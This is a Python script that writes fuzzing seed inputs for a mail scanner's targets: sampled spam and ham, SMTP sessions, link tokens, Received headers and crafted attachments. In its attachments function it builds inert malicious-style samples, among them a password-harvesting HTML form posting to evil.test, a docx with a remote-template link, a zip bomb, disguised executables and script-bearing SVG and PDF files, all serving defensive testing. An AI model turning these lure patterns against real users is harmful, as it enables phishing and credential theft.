#!/usr/bin/env python3
"""Writes the first inputs of a fuzz target's corpus (see scripts/fuzz.sh).

    scripts/fuzz_seeds.py TARGET DIR

Messages come from the spam corpus's training half (spam, ham and hard ham,
fetched by scripts/corpus.sh), cut to 64 KiB; attachments, SMTP sessions and
link tokens are made here.
"""

import gzip
import io
import os
import subprocess
import sys
import tarfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def messages(limit=400):
    corpus = subprocess.run([os.path.join(HERE, "corpus.sh")], check=True,
                            capture_output=True, text=True).stdout.strip()
    out = []
    for cls in ("spam", "ham"):
        folder = os.path.join(corpus, "train", cls)
        names = sorted(os.listdir(folder))
        step = max(1, len(names) // (limit // 2))
        for name in names[::step][: limit // 2]:
            with open(os.path.join(folder, name), "rb") as f:
                out.append(f.read(65536))
    return out


def zip_of(entries, **kw):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", **kw) as z:
        for name, data in entries:
            z.writestr(name, data)
    return buf.getvalue()


def attachments():
    """(name index byte, content) pairs; the index picks the target's file name."""
    pe = b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 64
    docx = zip_of([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"),
                   ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504),
                   ("word/_rels/settings.xml.rels",
                    b'<Relationships><Relationship TargetMode="External" Target="http://x.test/t.dotm"/></Relationships>')])
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as t:
        info = tarfile.TarInfo("run.exe")
        info.size = len(pe)
        t.addfile(info, io.BytesIO(pe))
    html = (b'<html><body><form action="https://evil.test/p" method="post">'
            b'<input type="password" name="p"></form><script>location="https://evil.test"</script></body></html>')
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    inner = zip_of([("invoice.pdf.exe", pe)])
    return [
        (0, zip_of([("a.txt", b"hello " * 100), ("b/run.exe", pe)], compression=zipfile.ZIP_DEFLATED)),
        (0, zip_of([("inner.zip", inner)])),
        (0, zip_of([("bomb.txt", b"\0" * 2_000_000)], compression=zipfile.ZIP_DEFLATED)),
        (1, docx),
        (2, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1016),
        (5, b"%PDF-1.4\n1 0 obj << /JavaScript (app.alert(1)) >> endobj\n%%EOF"),
        (6, html),
        (7, svg),
        (8, tar.getvalue()),
        (9, gzip.compress(pe)),
        (13, pe),
        (15, b"\x7fELF\x02\x01\x01" + b"\0" * 57),
    ]


def sessions():
    msg = b"From: a@b.example\r\nTo: u@example.org\r\nSubject: hi\r\n\r\nbody\r\n..dot\r\n.\r\n"
    return [
        b"EHLO c.example\r\nMAIL FROM:<a@b.example> SIZE=100 BODY=8BITMIME\r\n"
        b"RCPT TO:<u@example.org> NOTIFY=SUCCESS,FAILURE ORCPT=rfc822;u@example.org\r\nDATA\r\n" + msg + b"QUIT\r\n",
        b"EHLO c.example\r\nMAIL FROM:<>\r\nRCPT TO:<u@example.org>\r\nBDAT 10\r\n0123456789BDAT 5 LAST\r\nabcde"
        b"RSET\r\nNOOP\r\nVRFY u\r\nHELP\r\nQUIT\r\n",
        b"HELO c\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<u@example.org>\r\nRCPT TO:<\"q d\"@[192.0.2.1]>\r\nDATA\r\n"
        b"x\n.\n\r\n.\r\nQUIT\r\n",
        b"EHLO c.example\r\nSTARTTLS\r\nAUTH PLAIN AGZvbwBiYXI=\r\nMAIL FROM:<a@b.example> SMTPUTF8\r\n",
    ]


def tokens():
    return [b"https://links.example.org/l/AQAAAAAA-abc_def?x=1", b"AQ" + b"A" * 80, b"/l/", b"\xff"]


def received():
    hops = [
        b"Received: from EX01.corp.example (10.0.0.5) by EX02.corp.example (10.0.0.6) with Microsoft SMTP\r\n"
        b" Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.6; Tue, 14 Nov 2023 10:00:00 +0000",
        b"Received: from mail.example.net ([192.0.2.7]) by mx.example.org with Microsoft SMTPSVC(6.0.3790.4675);\r\n"
        b" Tue, 14 Nov 2023 10:00:00 +0000",
        b"Received: from [192.0.2.9] (helo=mail.example.net) by mx.example.org with esmtps (Exim 4.96)\r\n"
        b" id 1r2x3y-000abc-1Z; Tue, 14 Nov 2023 10:00:00 +0000",
        b"Received: from mail.example.net (mail.example.net [192.0.2.8]) by mx.example.org (8.15.2/8.15.2)\r\n"
        b" with ESMTP id 3AEA0000123456; Tue, 14 Nov 2023 10:00:00 +0000",
    ]
    return [h + b"\r\nFrom: a@example.net\r\nSubject: s\r\n\r\nbody\r\n" for h in hops]


def main():
    target, out = sys.argv[1], sys.argv[2]
    if target in ("scan_message", "rewrite_links"):
        seeds = messages()
    elif target == "scan_attachment":
        seeds = [bytes([n]) + data for n, data in attachments()]
    elif target == "smtp_session":
        seeds = sessions()
    elif target == "smtp_data":
        seeds = [bytes([shape]) + m for shape in (0, 1, 2, 5, 255) for m in messages(20)[:4]]
        seeds += [bytes([s]) + body for s in (0, 1, 9) for body in sessions()]
    elif target == "tokens":
        seeds = tokens()
    elif target == "sender_software":
        seeds = received() + messages(100)
    else:
        sys.exit(f"fuzz_seeds.py: no such target: {target}")
    for n, data in enumerate(seeds):
        with open(os.path.join(out, f"seed-{n:04}"), "wb") as f:
            f.write(data)
    print(f"{len(seeds)} seeds for {target} in {out}")


if __name__ == "__main__":
    main()
